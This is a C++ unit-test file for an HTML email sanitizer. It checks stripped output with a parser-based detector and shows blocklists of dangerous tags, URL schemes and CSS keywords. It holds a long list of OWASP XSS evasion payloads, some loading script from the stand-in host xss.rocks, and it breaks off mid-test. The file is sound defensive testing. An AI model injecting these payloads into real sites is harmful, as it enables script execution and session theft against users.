#include "Lattice/HTMLEncode.h"

#include <gtest/gtest.h>
#include <gumbo.h>

#include <functional>
#include <set>
#include <string>
#include <vector>

using Lattice::HTMLConvert;
using Lattice::HTMLEncode;
using Lattice::String;

namespace {

// ---- an independent oracle over the browser's view of the sanitized output ----

bool validUtf8(const std::string& s) {
    std::size_t i = 0;
    while (i < s.size()) {
        auto c = static_cast<unsigned char>(s[i]);
        std::size_t n = c < 0x80 ? 1 : (c >> 5) == 6 ? 2 : (c >> 4) == 14 ? 3 : (c >> 3) == 30 ? 4 : 0;
        if (!n || i + n > s.size() || (n > 1 && c < 0xC2) || c > 0xF4)
            return false;
        unsigned long cp = n == 1 ? c : c & (0x7F >> n);
        for (std::size_t k = 1; k < n; ++k) {
            auto b = static_cast<unsigned char>(s[i + k]);
            if ((b & 0xC0) != 0x80)
                return false;
            cp = (cp << 6) | (b & 0x3F);
        }
        if ((n == 3 && cp < 0x800) || (n == 4 && (cp < 0x10000 || cp > 0x10FFFF)) ||
            (cp >= 0xD800 && cp <= 0xDFFF))
            return false;
        i += n;
    }
    return true;
}

std::string lower(std::string s) {
    for (char& c : s)
        if (c >= 'A' && c <= 'Z')
            c = static_cast<char>(c - 'A' + 'a');
    return s;
}

std::string compact(const std::string& v) {
    std::string out;
    for (char c : v)
        if (static_cast<unsigned char>(c) > 0x20 && c != 0x7F)
            out += c;
    return lower(out);
}

// CSS as a lenient engine could read it: escapes decoded, comments gone, full-width folded.
std::string cssView(const std::string& css) {
    std::string s;
    for (std::size_t i = 0; i < css.size(); ++i) {
        if (css[i] == '\\' && i + 1 < css.size()) {
            std::size_t j = i + 1;
            unsigned long v = 0;
            int digits = 0;
            while (j < css.size() && digits < 6 && std::isxdigit(static_cast<unsigned char>(css[j]))) {
                v = v * 16 + static_cast<unsigned long>(std::stoi(std::string(1, css[j]), nullptr, 16));
                ++j;
                ++digits;
            }
            if (digits) {
                s += v < 0x80 ? static_cast<char>(v) : '~';
                i = j - 1;
            } else {
                s += css[j];
                i = j;
            }
            continue;
        }
        // full-width ASCII (EF BC 81..EF BD 9E)
        if (static_cast<unsigned char>(css[i]) == 0xEF && i + 2 < css.size()) {
            auto b1 = static_cast<unsigned char>(css[i + 1]), b2 = static_cast<unsigned char>(css[i + 2]);
            unsigned cp = 0xF000 | ((b1 & 0x3F) << 6) | (b2 & 0x3F);
            if (cp >= 0xFF01 && cp <= 0xFF5E) {
                s += static_cast<char>(cp - 0xFEE0);
                i += 2;
                continue;
            }
        }
        s += css[i];
    }
    std::string out;
    for (std::size_t i = 0; i < s.size(); ++i) {
        if (s[i] == '/' && i + 1 < s.size() && s[i + 1] == '*') {
            std::size_t e = s.find("*/", i + 2);
            i = e == std::string::npos ? s.size() : e + 1;
            continue;
        }
        out += s[i];
    }
    return compact(out);
}

// Bad in what a browser makes of the CSS, or anywhere in the text as written.
bool cssBad(const std::string& css) {
    for (const std::string& v : {cssView(css), compact(css)})
        for (const char* bad : {"expression(", "behavior", "-moz-binding",
                                "javascript:", "vbscript:", "livescript:", "@import"})
            if (v.find(bad) != std::string::npos)
                return true;
    return false;
}

struct Tree {
    explicit Tree(const std::string& html)
        : out(gumbo_parse_with_options(&kGumboDefaultOptions, html.data(), html.size())) {}
    ~Tree() { gumbo_destroy_output(&kGumboDefaultOptions, out); }
    Tree(const Tree&) = delete;
    Tree& operator=(const Tree&) = delete;

    // Visits every element, without recursion.
    void each(const std::function<void(const GumboNode*)>& visit) const {
        std::vector<const GumboNode*> stack{out->root};
        while (!stack.empty()) {
            const GumboNode* n = stack.back();
            stack.pop_back();
            if (n->type != GUMBO_NODE_ELEMENT && n->type != GUMBO_NODE_TEMPLATE)
                continue;
            visit(n);
            const GumboVector& k = n->v.element.children;
            for (unsigned i = 0; i < k.length; ++i)
                stack.push_back(static_cast<const GumboNode*>(k.data[i]));
        }
    }
    std::string text() const {
        std::string t;
        std::vector<const GumboNode*> stack{out->root};
        while (!stack.empty()) {
            const GumboNode* n = stack.back();
            stack.pop_back();
            if (n->type == GUMBO_NODE_TEXT || n->type == GUMBO_NODE_WHITESPACE) {
                t += n->v.text.text;
                continue;
            }
            if (n->type != GUMBO_NODE_ELEMENT)
                continue;
            const GumboVector& k = n->v.element.children;
            for (unsigned i = k.length; i-- > 0;)
                stack.push_back(static_cast<const GumboNode*>(k.data[i]));
        }
        return t;
    }
    GumboOutput* out;
};

std::string tag(const GumboNode* n) {
    return n->v.element.tag == GUMBO_TAG_UNKNOWN ? std::string() : gumbo_normalized_tagname(n->v.element.tag);
}

const char* attr(const GumboNode* n, const char* name) {
    const GumboAttribute* a = gumbo_get_attribute(&n->v.element.attributes, name);
    return a ? a->value : nullptr;
}

std::string styleText(const GumboNode* n) {
    std::string t;
    const GumboVector& k = n->v.element.children;
    for (unsigned i = 0; i < k.length; ++i) {
        auto* c = static_cast<const GumboNode*>(k.data[i]);
        if (c->type == GUMBO_NODE_TEXT || c->type == GUMBO_NODE_WHITESPACE)
            t += c->v.text.text;
    }
    return t;
}

// Everything the browser could run in `html`; empty when it is safe.
std::vector<std::string> activeContent(const std::string& html) {
    std::vector<std::string> found;
    Tree t(html);
    t.each([&](const GumboNode* n) {
        std::string name = tag(n);
        if (n->v.element.tag_namespace != GUMBO_NAMESPACE_HTML)
            found.push_back("foreign element");
        for (const char* bad : {"script", "iframe", "frame", "frameset", "object",   "embed",   "applet",
                                "base",   "meta",   "link",  "form",     "input",    "button",  "textarea",
                                "select", "svg",    "math",  "bgsound",  "noscript", "template"})
            if (name == bad)
                found.push_back("element " + name);
        if (name == "style" && cssBad(styleText(n)))
            found.push_back("style sheet " + styleText(n));
        const GumboVector& attrs = n->v.element.attributes;
        for (unsigned i = 0; i < attrs.length; ++i) {
            auto* a = static_cast<const GumboAttribute*>(attrs.data[i]);
            std::string an = lower(a->name), v = compact(a->value);
            if (an.rfind("on", 0) == 0)
                found.push_back("handler " + an);
            for (const char* s : {"javascript:", "vbscript:", "livescript:"})
                if (v.find(s) != std::string::npos)
                    found.push_back("script url in " + an);
            if (v.rfind("data:", 0) == 0 &&
                !(name == "img" && an == "src" &&
                  (v.rfind("data:image/png", 0) == 0 || v.rfind("data:image/gif", 0) == 0 ||
                   v.rfind("data:image/jpeg", 0) == 0 || v.rfind("data:image/webp", 0) == 0)))
                found.push_back("data url in " + an);
            if (an == "style" && cssBad(a->value))
                found.push_back("style attribute " + std::string(a->value));
        }
    });
    return found;
}

bool hasElement(const std::string& html, const std::string& name, const char* attrName = nullptr,
                const std::string& attrValue = std::string()) {
    bool found = false;
    Tree(html).each([&](const GumboNode* n) {
        if (tag(n) != name)
            return;
        if (!attrName) {
            found = true;
            return;
        }
        const char* v = attr(n, attrName);
        if (v && std::string(v).find(attrValue) != std::string::npos)
            found = true;
    });
    return found;
}

std::string sanitize(const std::string& in, bool full = false, bool remote = true) {
    return HTMLEncode::stripScript(String(in), full, remote).str();
}

// ---- XSS vectors (OWASP filter evasion cheat sheet and friends) ----

const std::vector<std::string> kVectors = {
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x "
    "onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#"
    "0000039"
    "&#0000041\">",
    "<IMG "
    "SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#"
    "39;"
    "&#88;&#83;&#83;&#39;&#41;>",
    "<IMG "
    "SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#"
    "0000041>",
    "<IMG "
    "SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53"
    "&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    std::string("<IMG SRC=java\0script:alert(\"XSS\")>", 34),
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<svg/onload=alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"http://xss.rocks/xss.css\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
    "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV "
    "STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070"
    "\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<div "
    "style=\"width:"
    "\xEF\xBD\x85\xEF\xBD\x98\xEF\xBD\x90\xEF\xBD\x92\xEF\xBD\x85\xEF\xBD\x93\xEF\xBD\x93\xEF\xBD"
    "\x89\xEF\xBD\x8F\xEF\xBD\x8E(alert(1))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH "
    "A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=\" "
    "type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> "
    "</HEAD>+ADw-SCRIPT+AD4-alert('XSS')"
    ";+ADw-/SCRIPT+AD4-",
    "<SCRIPT a=\">\" SRC=\"httx://xss.rocks/xss.js\"></SCRIPT>",
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<a href=\"&#x6a;avascript&colon;alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT&#58;alert(1)\">x</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit value=go></form>",
    "<button formaction=\"javascript:alert(1)\">X</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<div style=\"-moz-binding:url(//x)\">x</div>",
    "<div style=\"width:exp\\ression(alert(1))\">x</div>",
    "<x style=\"xss:expression(alert(1))\">x</x>",
    "<style>a{color:red}</style x><script>alert(1)</script>",
    "<style>@\\69mport url(http://evil/x.css);</style>",
    "<table><tr><td><a href=\"vbscript:msgbox(1)\">v</a></td></tr></table>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<a href=\"java&NewLine;script:alert(1)\">n</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">t</a>",
    "<div style=\"background:url(&quot;javascript:alert(1)&quot;)\">q</div>",
    "<area href=\"javascript:alert(1)\"><map><area href=\"javascript:alert(1)\"></map>",
    "<blockquote cite=\"javascript:alert(1)\">c</blockquote>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<div style=\"color:red;/*\";width:expr/**/ession(alert(1))\">split</div>",
    "<div style=\"a:expres/*;*/sion(alert(1))\">joined</div>",
    // Only an unclosed comment hides the keyword; parsers disagree about where that comment ends.
    "<div style=\"width: expr/**\xff/essiexpression(alert(1))\">unclosed</div>",
};

} // namespace

TEST(StripScript, XssVectorsLeaveNothingActive) {
    for (const std::string& v : kVectors) {
        for (bool full : {false, true}) {
            std::string out = sanitize(v, full, true);
            auto active = activeContent(out);
            EXPECT_TRUE(active.empty())
                << "input: " << v << "\noutput: " << out << "\nfirst: " << active.front();
            EXPECT_TRUE(validUtf8(out)) << v;
            // What a second pass makes of it must be just as clean: no parser round trip revives anything.
            EXPECT_TRUE(activeContent(sanitize(out, full, true)).empty()) << v;
        }
    }
}

TEST(StripScript, KeepsHarmlessPartsNextToRemovedOnes) {
    std::string out =
        sanitize("<div style=\"color:red;background:url(javascript:alert(1));font-size:12pt\">t</div>");
    EXPECT_TRUE(hasElement(out, "div", "style", "color:red")) << out;
    EXPECT_TRUE(hasElement(out, "div", "style", "font-size:12pt")) << out;
    EXPECT_EQ(out.find("javascript"), std::string::npos);

    out = sanitize("<img src=x onerror=alert(1) alt=\"pic\" width=\"20\">");
    EXPECT_TRUE(hasElement(out, "img", "alt", "pic"));
    EXPECT_TRUE(hasElement(out, "img", "width", "20"));

    out = sanitize("<p>before<script>alert(1)</script>after</p>");
    EXPECT_EQ(Tree(out).text(), "beforeafter");

    out = sanitize("<form action=\"/x\"><button>Send now</button><input value=v></form>");
    EXPECT_NE(Tree(out).text().find("Send now"), std::string::npos) << out;

    out =
        sanitize("<style>@import url(x.css); p{color:blue} .a{background:url(javascript:x)}</style><p>t</p>");
    ASSERT_TRUE(hasElement(out, "style")) << out;
    EXPECT_NE(out.find("p{color:blue}"), std::string::npos) << out;
}

namespace {

struct Survivor {
    const char* name;
    std::string html;
    std::vector<std::tuple<const char*, const char*, std::string>> elements; // tag, attribute, value part
    std::string text;                                                        // expected in the text
};

const std::vector<Survivor> kMail = {
    {"table layout",
     "<table border=\"0\" cellpadding=\"4\" cellspacing=\"0\" width=\"100%\" bgcolor=\"#ffffff\"><tr>"
     "<td valign=\"top\" style=\"font-family:Arial;color:#333\" colspan=\"2\">Hello "
     "<b>World</b></td></tr></table>",
     {{"table", "cellpadding", "4"},
      {"table", "bgcolor", "#ffffff"},
      {"table", "width", "100%"},
      {"td", "style", "font-family:Arial;color:#333"},
      {"td", "colspan", "2"},
      {"b", nullptr, ""}},
     "Hello World"},
    {"head style sheet kept in a fragment",
     "<html><head><style>p{margin:0in;margin-bottom:.0001pt;}</style></head><body><p "
     "class=\"MsoNormal\">Hi</p>"
     "</body></html>",
     {{"style", nullptr, ""}, {"p", "class", "MsoNormal"}},
     ".hx-message p{margin:0in;margin-bottom:.0001pt}Hi"},
    {"images",
     "<img src=\"cid:image001.png@01D2\" alt=\"logo\" width=\"10\"><img src=\"/mail/jdoe.nsf/($All)/ABC/Body/"
     "0.1A2?OpenElement&amp;FieldElemFormat=gif\"><img src=\"https://example.com/a.png\">"
     "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
     {{"img", "src", "cid:image001.png@01D2"},
      {"img", "alt", "logo"},
      {"img", "src", "/mail/jdoe.nsf/($All)/ABC/Body/0.1A2?OpenElement&FieldElemFormat=gif"},
      {"img", "src", "https://example.com/a.png"},
      {"img", "src", "data:image/png;base64,iVBORw0KGgo="}},
     ""},
    {"links",
     "<a href=\"http://example.com/\">h</a><a href=\"https://example.com/x?a=1&amp;b=2\" "
     "target=\"_blank\">s</a>"
     "<a href=\"mailto:jdoe@example.com\">m</a><a href=\"/mail/x.nsf/0/abc?OpenDocument\">r</a><a "
     "href=\"#top\">"
     "t</a><a href=\"notes://server/db.nsf\">n</a><a name=\"top\">a</a>",
     {{"a", "href", "http://example.com/"},
      {"a", "href", "https://example.com/x?a=1&b=2"},
      {"a", "target", "_blank"},
      {"a", "href", "mailto:jdoe@example.com"},
      {"a", "href", "/mail/x.nsf/0/abc?OpenDocument"},
      {"a", "href", "#top"},
      {"a", "href", "notes://server/db.nsf"},
      {"a", "name", "top"}},
     "hsmrtna"},
    {"formatting",
     "<font face=\"Arial\" color=\"#ff0000\" size=\"2\">f</font><ul><li>one</li></ul><ol "
     "start=\"3\"><li>two</li>"
     "</ol><blockquote cite=\"http://example.com\">q</blockquote><h1 align=\"center\">H</h1><hr noshade>",
     {{"font", "face", "Arial"},
      {"font", "color", "#ff0000"},
      {"ol", "start", "3"},
      {"li", nullptr, ""},
      {"blockquote", "cite", "http://example.com"},
      {"h1", "align", "center"},
      {"hr", nullptr, ""}},
     "fonetwoqH"},
    {"plain text wrapper",
     "<html><head><style>p{margin:0in;margin-bottom:.0001pt;}</style><body><style>pre { white-space: "
     "-moz-pre-wrap; white-space: -pre-wrap;white-space: -o-pre-wrap; white-space: pre-wrap; word-wrap: "
     "break-word; "
     "}</style><PRE>line1\n  line2 &lt;x&gt;</PRE>\n</body></head></html>",
     {{"pre", nullptr, ""}, {"style", nullptr, ""}},
     "line1\n  line2 <x>"},
    {"office markup",
     "<!--[if mso]><p>hidden</p><![endif]--><p class=MsoNormal>Dear<o:p></o:p> all<o:p>&nbsp;</o:p></p>",
     {{"p", "class", "MsoNormal"}},
     "Dear all\xC2\xA0"},
    {"entities and non-ASCII",
     "<p>&copy; &lt;tag&gt; Gr\xC3\xBC\xC3\x9F"
     "e \xE2\x80\x93 \xE2\x82\xAC</p>",
     {{"p", nullptr, ""}},
     "\xC2\xA9 <tag> Gr\xC3\xBC\xC3\x9F"
     "e \xE2\x80\x93 \xE2\x82\xAC"},
    {"css with remote background",
     "<div style=\"background:url(https://example.com/bg.png);color:#000\">c</div>",
     {{"div", "style", "background:url(https://example.com/bg.png)"}},
     "c"},
};

} // namespace

TEST(StripScript, OrdinaryMailSurvives) {
    for (const Survivor& s : kMail) {
        std::string out = sanitize(s.html, false, true);
        for (const auto& [tagName, attrName, value] : s.elements) {
            EXPECT_TRUE(hasElement(out, tagName, attrName, value))
                << s.name << ": <" << tagName << " " << (attrName ? attrName : "") << "=" << value << ">\n"
                << out;
        }
        if (!s.text.empty()) {
            EXPECT_NE(Tree(out).text().find(s.text), std::string::npos) << s.name << "\n" << out;
        }
        EXPECT_TRUE(activeContent(out).empty()) << s.name;
    }
}

TEST(StripScript, RemoteImagesOnlyWhenAllowed) {
    std::string html = "<img src=\"http://tracker.example/p.gif\" alt=\"t\"><img src=\"//cdn.example/x.png\">"
                       "<img src=\"cid:a@b\"><img src=\"/mail/a.nsf/x.gif\">"
                       "<div style=\"color:red;background:url('http://x.example/b.png')\">d</div>"
                       "<table background=\"https://x.example/t.png\"><tr><td>c</td></tr></table>";
    std::string blocked = sanitize(html, false, false);
    EXPECT_EQ(blocked.find("tracker.example"), std::string::npos) << blocked;
    EXPECT_EQ(blocked.find("cdn.example"), std::string::npos) << blocked;
    EXPECT_EQ(blocked.find("x.example"), std::string::npos) << blocked;
    EXPECT_TRUE(hasElement(blocked, "img", "alt", "t"));
    EXPECT_TRUE(hasElement(blocked, "img", "src", "cid:a@b"));
    EXPECT_TRUE(hasElement(blocked, "img", "src", "/mail/a.nsf/x.gif"));
    EXPECT_TRUE(hasElement(blocked, "div", "style", "color:red"));

    std::string allowed = sanitize(html, false, true);
    EXPECT_TRUE(hasElement(allowed, "img", "src", "http://tracker.example/p.gif"));
    EXPECT_TRUE(hasElement(allowed, "img", "src", "//cdn.example/x.png"));
    EXPECT_TRUE(hasElement(allowed, "table", "background", "https://x.example/t.png"));
}

TEST(StripScript, FullDocumentAndFragmentShapes) {
    std::string page = "<html><head><title>Subject &amp; more</title><meta http-equiv=refresh content=0>"
                       "<style>p{color:red}</style><script>x()</script></head>"
                       "<body bgcolor=\"#eeeeee\" onload=\"x()\"><p>Body</p></body></html>";
    std::string full = sanitize(page, true, true);
    EXPECT_EQ(full.rfind("<html><head>", 0), 0u) << full;
    EXPECT_NE(full.find("<title>Subject &amp; more</title>"), std::string::npos) << full;
    EXPECT_TRUE(hasElement(full, "body", "bgcolor", "#eeeeee"));
    EXPECT_EQ(full.find("onload"), std::string::npos);
    EXPECT_TRUE(hasElement(full, "style"));
    EXPECT_EQ(full.substr(full.size() - 14), "</body></html>");

    std::string fragment = sanitize(page, false, true);
    EXPECT_EQ(fragment, "<div class=\"hx-message\" style=\"background-color:#eeeeee\"><style>.hx-message "
                        "p{color:red}</style><p>Body</p></div>");

    // A fragment carries the body's colours on a wrapper.
    std::string wrapped = sanitize("<body bgcolor=\"#000000\" text=\"white\" background=\"cid:bg\" "
                                   "style=\"font-size:10pt\"><p>x</p></body>");
    EXPECT_TRUE(hasElement(wrapped, "div", "style",
                           "background-color:#000000;color:white;"
                           "background-image:url(cid:bg);font-size:10pt"))
        << wrapped;
    EXPECT_EQ(wrapped.substr(wrapped.size() - 14), "<p>x</p></div>");
    wrapped = sanitize("<body bgcolor=\"red;background:url(javascript:alert(1))\" "
                       "background=\"x);behavior:url(y\"><p>x</p></body>");
    EXPECT_TRUE(activeContent(wrapped).empty()) << wrapped;
    EXPECT_EQ(wrapped.find("behavior"), std::string::npos) << wrapped;
    EXPECT_EQ(wrapped.find("javascript"), std::string::npos) << wrapped;

    EXPECT_EQ(sanitize("", false, true), "");
    EXPECT_EQ(sanitize("<html><head></head><body></body></html>", false, true), "");
    EXPECT_EQ(sanitize("just text & more", false, true),
              "<div class=\"hx-message\">just text &amp; more</div>");
}

TEST(StripScript, HostileInputNeitherCrashesNorLosesValidity) {
    std::string deep;
    for (int i = 0; i < 20000; ++i)
        deep += "<div><span>";
    deep += "bottom";
    std::string out = sanitize(deep);
    EXPECT_NE(out.find("bottom"), std::string::npos);

    // One tag with a hundred thousand attributes, and as many copies of an allowed one.
    std::string many = "<p";
    for (int i = 0; i < 100000; ++i)
        many += " style=\"color:red\" x" + std::to_string(i) + "=1";
    out = sanitize(many + ">wide</p>");
    EXPECT_EQ(out, "<div class=\"hx-message\"><p style=\"color:red\">wide</p></div>");

    std::string binary("a\0b\x81\xFF\xC3<p>\xE2\x82</p>\xED\xA0\x80z", 19);
    out = sanitize(binary);
    EXPECT_TRUE(validUtf8(out)) << out;
    EXPECT_NE(out.find('z'), std::string::npos);

    // The parser turns an overflowing numeric reference into malformed UTF-8; it must not leak out.
    out = sanitize("<img src=\".#x6A&#161&#x76BBBBBBBB\" alt=\"&#x76BBBBBBBB;\">t&#x76BBBBBBBB;t");
    EXPECT_TRUE(validUtf8(out)) << out;
    EXPECT_TRUE(hasElement(out, "img", "src", ".#x6A"));

    // Unbalanced and misnested markup still comes out balanced.
    out = sanitize("<table><tr><td>a<b>b<i>c</table>d</b>e<p><div>f");
    EXPECT_TRUE(activeContent(out).empty());
    EXPECT_EQ(Tree(out).text(), "abcdef");
    out = sanitize("<table><tr><td>a<b>b<i>c</table>d</b>e<p><div>f", true);
    EXPECT_EQ(sanitize(out, true), out) << "a clean, balanced result is stable";

    // Found by fuzzing: an unclosed style sheet holding thousands of url( that never close, with
    // NUL (U+FFFD in CSS) around them. Each argument runs to the end of the sheet; checking each
    // on its own copy took minutes.
    const std::string once("<style>p{ma\0\0\0\x01\0a url(\0\0\0\0\0\0\0t\0\0DIV><S\x01\0\xb3"
                           "E>@i\xb3"
                           "E>@imrort expt",
                           60);
    std::string sheets;
    while (sheets.size() < 200 * 1024)
        sheets += once;
    out = sanitize(sheets);
    EXPECT_TRUE(validUtf8(out));
    EXPECT_TRUE(activeContent(out).empty());
}

namespace {

// The selectors of a style sheet, through @media and @supports blocks; `others` gets every other
// at-rule's name. Strings and comments are not expected in the sanitizer's output of these sheets.
void selectorsOf(const std::string& css, std::vector<std::string>& out, std::vector<std::string>& others) {
    std::size_t pos = 0;
    while (pos < css.size()) {
        std::size_t brace = css.find('{', pos);
        if (brace == std::string::npos)
            return;
        // Blocks nest as a CSS parser sees them: a '}' inside parentheses closes nothing.
        std::string open = "}";
        std::size_t end = brace + 1;
        for (; end < css.size() && !open.empty(); ++end) {
            const char c = css[end];
            if (c == '(' || c == '[' || c == '{')
                open += c == '(' ? ')' : c == '[' ? ']' : '}';
            else if (c == open.back())
                open.pop_back();
        }
        std::string prelude = css.substr(pos, brace - pos);
        std::string block = css.substr(brace + 1, end - brace - 2);
        pos = end;
        if (prelude.rfind("@media", 0) == 0 || prelude.rfind("@supports", 0) == 0) {
            selectorsOf(block, out, others);
            continue;
        }
        if (prelude.rfind("@", 0) == 0) {
            others.push_back(prelude);
            continue;
        }
        int parens = 0;
        std::string current;
        for (char c : prelude + ",") {
            parens += c == '(' || c == '[' ? 1 : c == ')' || c == ']' ? -1 : 0;
            if (c == ',' && parens == 0) {
                out.push_back(current);
                current.clear();
            } else {
                current += c;
            }
        }
    }
}

// Whether a selector can only match the container or its descendants: it starts with the
// container's class, and the container is not followed by a sibling combinator.
bool insideContainer(const std::string& selector) {
    const std::string container = ".hx-message";
    if (selector.rfind(container, 0) != 0)
        return false;
    std::size_t i = container.size();
    if (i < selector.size() &&
        (std::isalnum(static_cast<unsigned char>(selector[i])) || selector[i] == '-' || selector[i] == '_'))
        return false; // another class, such as .hx-message-x
    int parens = 0;
    for (; i < selector.size(); ++i) {
        parens += selector[i] == '(' || selector[i] == '['   ? 1
                  : selector[i] == ')' || selector[i] == ']' ? -1
                                                             : 0;
        if (parens == 0 && (selector[i] == ' ' || selector[i] == '>'))
            return true; // what follows is a descendant
        if (parens == 0 && (selector[i] == '+' || selector[i] == '~'))
            return false;
    }
    return true; // the container itself
}

} // namespace

TEST(StripScript, StyleSheetsApplyOnlyInsideTheMessageContainer) {
    const std::string page =
        "<html><head><style>"
        "body { background: black; color: white } html { font-size: 30px } :root { --x: 1 }\n"
        "* { margin: 0 } #footer { display: none } div p { color: red }\n"
        "h1, .title,  BODY > table td , html body .x {font-weight:bold}\n"
        "body + div, ~ p, body~p, + a { color: pink }\n"
        "a[title=\"x,y\"], p:is(.a, .b) { color: green }\n"
        "/* } body { color: red } */ .after-comment { color: blue }\n"
        "@import url(other.css);\n"
        "@media screen and (max-width: 600px) { body { padding: 0 } .col { width: 100% } }\n"
